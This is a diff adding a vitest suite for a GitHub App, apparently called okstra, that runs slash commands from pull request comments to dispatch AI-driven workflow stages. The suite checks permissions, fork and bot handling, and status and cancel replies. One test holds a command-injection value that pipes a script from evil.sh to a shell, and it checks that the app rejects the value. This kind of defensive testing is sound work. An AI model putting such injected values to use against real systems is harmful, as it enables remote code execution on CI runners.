@@ -1,0 +1,227 @@
+import { describe, expect, it } from 'vitest';
+import type { EmitterWebhookEvent } from '@octokit/webhooks';
+import { delivery, example, GitHubMock, NOW, testProbot, useNock } from './harness.js';
+import { CONFIG, doneRow, HEAD_SHA, PLAN_ID, PLAN_PATH, PLAN_TEXT, startedRow } from './fixtures.js';
+
+useNock();
+
+type CommentPayload = EmitterWebhookEvent<'issue_comment.created'>['payload'];
+
+/**
+ * The one issue_comment.created example with an installation, which is on an
+ * issue (#1 of Codertocat/Hello-World, default branch master). Changed here:
+ * the comment body; and, to make it a pull request comment (none of the
+ * examples is one), `issue.pull_request` set as GitHub sets it on PR comments.
+ */
+function prComment(body: string, onPullRequest = true): CommentPayload {
+  const p = example('issue_comment.created', (e) => Boolean(e.installation));
+  p.comment.body = body;
+  if (onPullRequest) {
+    p.issue.pull_request = {
+      url: 'https://api.github.com/repos/Codertocat/Hello-World/pulls/1',
+      html_url: 'https://github.com/Codertocat/Hello-World/pull/1',
+      diff_url: 'https://github.com/Codertocat/Hello-World/pull/1.diff',
+      patch_url: 'https://github.com/Codertocat/Hello-World/pull/1.patch',
+      merged_at: null,
+    };
+  }
+  return p;
+}
+
+const REPO = { owner: 'Codertocat', repo: 'Hello-World' };
+const COMMENT_ID = 492700400;
+const USER = 'Codertocat';
+
+async function receive(payload: CommentPayload, logs: string[] = []): Promise<void> {
+  const probot = await testProbot(logs);
+  await probot.receive(delivery('issue_comment.created', payload));
+}
+
+/** What every accepted command costs first: the token, 👀, the config, the sender's role. */
+function accepted(gh: GitHubMock, role = 'write'): GitHubMock {
+  return gh.token().reaction(COMMENT_ID).config(CONFIG).permission(USER, role);
+}
+
+/** The pull request (#1, same repository) that adds the plan, and the plan itself at its head. */
+function planOnPullRequest(gh: GitHubMock): GitHubMock {
+  return gh.pull(1, { headSha: HEAD_SHA }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }, { filename: 'README.md' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
+}
+
+describe('issue_comment.created', () => {
+  it("a write user's `/okstra stage 2` creates the queued check, then dispatches the workflow with the right inputs", async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow().createCheck(5001).dispatch().reaction(COMMENT_ID);
+
+    await receive(prComment('Stage 1 looks right.\n\n/okstra stage 2 --executor codex --verifiers claude,gemini --model claude=claude-sonnet-4-5'));
+
+    expect(gh.bodies.createCheck).toEqual([
+      {
+        name: 'okstra: password-reset · stage 2',
+        head_sha: HEAD_SHA,
+        status: 'queued',
+        details_url: 'https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml',
+        output: {
+          title: 'Queued',
+          summary: `Requested by @${USER} ([comment](https://github.com/Codertocat/Hello-World/issues/1#issuecomment-${COMMENT_ID})). Waiting for the [okstra workflow](https://github.com/Codertocat/Hello-World/actions/workflows/okstra.yml) to run stage 2 of plan \`password-reset\`.`,
+        },
+      },
+    ]);
+    expect(gh.bodies.dispatch).toEqual([
+      {
+        ref: 'master',
+        inputs: {
+          mode: 'stage',
+          plan: PLAN_PATH,
+          stage: '2',
+          'pr-number': '1',
+          executor: 'codex',
+          verifiers: 'claude,gemini',
+          models: 'claude=claude-sonnet-4-5',
+          'check-run-id': '5001',
+          trigger: 'comment',
+          actor: USER,
+        },
+      },
+    ]);
+    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }]);
+  });
+
+  it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
+    const gh = accepted(new GitHubMock(REPO), 'read').reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 2'));
+    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
+    expect(gh.bodies.comment).toEqual([{ body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.` }]);
+  });
+
+  it('counts a triage role as below write, and honours a lower bot.permission', async () => {
+    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permission: triage\n').permission(USER, 'read', 'triage');
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow().createCheck(5002).dispatch().reaction(COMMENT_ID);
+    await receive(prComment('/okstra stage 2'));
+    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2', 'check-run-id': '5002' });
+  });
+
+  it('ignores a bot: no reaction, no reply, no request at all', async () => {
+    const p = prComment('/okstra stage 2');
+    // Changed: the sender is a GitHub App's bot account.
+    p.sender.login = 'dependabot[bot]';
+    p.sender.type = 'Bot';
+    const logs: string[] = [];
+    await receive(p, logs);
+    expect(logs).toContain('ignored /okstra from bot account dependabot[bot]');
+  });
+
+  it('refuses a pull request from a fork unless the config allows forks', async () => {
+    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 2'));
+    expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
+    expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
+    expect(gh.bodies.comment?.[0]?.body).toContain('`bot.allowForks: true`');
+  });
+
+  it('runs a fork pull request when bot.allowForks is set', async () => {
+    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  allowForks: true\n').permission(USER, 'admin');
+    gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, [{ filename: PLAN_PATH }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
+    gh.ledger(PLAN_ID, null).workflow().createCheck(5003).dispatch().reaction(COMMENT_ID);
+    await receive(prComment('/okstra stage 1'));
+    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '1', 'check-run-id': '5003' });
+  });
+
+  it('answers an unknown verb with the usage', async () => {
+    const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra deploy'));
+    const body = String(gh.bodies.comment?.[0]?.body);
+    expect(body).toContain('- `/okstra deploy`: unknown command `deploy`');
+    expect(body).toContain('**okstra commands**');
+    expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
+  });
+
+  it('ignores a command inside a code block, a quote or an HTML comment: no request at all', async () => {
+    await receive(prComment('To run it:\n\n```\n/okstra stage 2\n```\n\n> /okstra stage 2\n\n<!-- /okstra stage 2 -->'));
+  });
+
+  it('refuses a stage that is not in the plan, naming its stages', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 9'));
+    expect(gh.bodies.comment?.[0]?.body).toBe(`@${USER} okstra:\n\n- \`/okstra stage 9\`: stage 9 is not in plan \`password-reset\` (its stages: 1, 2, 3).`);
+  });
+
+  it('refuses a value carrying shell metacharacters before anything is read or started', async () => {
+    const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 2 --executor codex;curl${IFS}evil.sh|sh'));
+    const body = String(gh.bodies.comment?.[0]?.body);
+    expect(body).toContain('contains characters okstra does not accept (`;` `$` `{` `}` `|`)');
+    expect(gh.bodies.dispatch).toBeUndefined();
+  });
+
+  it('answers a command on an issue that okstra runs on pull requests', async () => {
+    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 2', false));
+    expect(gh.bodies.reaction).toEqual([{ content: 'confused' }]);
+    expect(gh.bodies.comment?.[0]?.body).toContain('okstra runs on pull requests');
+  });
+
+  it('runs several commands in order and answers each that needs it in one reply', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow().createCheck(5004).dispatch();
+    // The second command resolves the plan again (each command stands alone) and finds stage 3 blocked.
+    gh.pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1)]);
+    gh.reaction(COMMENT_ID, 2).comment(1);
+    await receive(prComment('/okstra stage 2\n/okstra stage 3\n/okstra help'));
+    expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2' });
+    expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }, { content: 'confused' }]);
+    const body = String(gh.bodies.comment?.[0]?.body);
+    expect(body.indexOf('`/okstra stage 3`: stage 3 of plan `password-reset` waits for stage 2, not done yet.')).toBeGreaterThan(0);
+    expect(body.indexOf('`/okstra help`: the commands are below.')).toBeGreaterThan(body.indexOf('/okstra stage 3'));
+    expect(body).toContain('**okstra commands**');
+  });
+
+  it('`/okstra status` posts the plan status as a sticky comment with the table and the graph', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).listComments(1, [{ id: 1, body: 'unrelated' }]).comment(1);
+    await receive(prComment('/okstra status'));
+    const body = String(gh.bodies.comment?.[0]?.body);
+    expect(body.startsWith('<!-- okstra:status plan=password-reset -->\n### okstra plan `password-reset`')).toBe(true);
+    expect(body).toContain('| 1 | Reset tokens | — | ✅ done |');
+    expect(body).toContain('| 2 | Reset API | 1 | 🟢 ready |');
+    expect(body).toContain('```mermaid\nflowchart TD');
+    expect(body).toContain(`at ${NOW.toISOString()}`);
+  });
+
+  it('`/okstra status` again updates the status comment in place and points at it', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).listComments(1, [{ id: 4242, body: '<!-- okstra:status plan=password-reset -->\nold' }]).updateComment(4242).comment(1);
+    await receive(prComment('/okstra status'));
+    expect(String(gh.bodies.updateComment?.[0]?.body)).toContain('| 2 | Reset API | 1 | ✅ done |');
+    expect(gh.bodies.comment?.[0]?.body).toContain('is updated [above](https://github.com/Codertocat/Hello-World/pull/1#issuecomment-4242)');
+  });
+
+  it('`/okstra cancel` cancels this pull request\'s unfinished okstra runs only', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    gh.workflowRuns([
+      { id: 71, title: `okstra ${PLAN_PATH} · pr 1 · checks 5001`, status: 'in_progress' },
+      { id: 72, title: `okstra ${PLAN_PATH} · pr 12 · checks 6001`, status: 'queued' },
+      { id: 73, title: 'okstra  · pr  · checks ', status: 'queued' },
+    ]);
+    gh.cancelRun(71).comment(1);
+    await receive(prComment('/okstra cancel'));
+    expect(gh.bodies.comment?.[0]?.body).toContain('cancelled [run 71](https://github.com/Codertocat/Hello-World/actions/runs/71)');
+  });
+
+  it('answers a configuration that does not validate, naming the key', async () => {
+    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 2'));
+    expect(gh.bodies.comment?.[0]?.body).toContain('.okstra/config.yml: bot: unknown key "permision" (did you mean "permission"?)');
+  });
+
+  it('refuses a stage that is already done, and one in progress', async () => {
+    const gh = accepted(new GitHubMock(REPO));
+    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]);
+    gh.pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')]);
+    gh.reaction(COMMENT_ID).comment(1);
+    await receive(prComment('/okstra stage 1\n/okstra stage 2'));
+    const body = String(gh.bodies.comment?.[0]?.body);
+    expect(body).toContain('stage 1 of plan `password-reset` is already done (run `gh-100-1-s1`).');
+    expect(body).toContain('stage 2 of plan `password-reset` is in progress');
+  });
+});
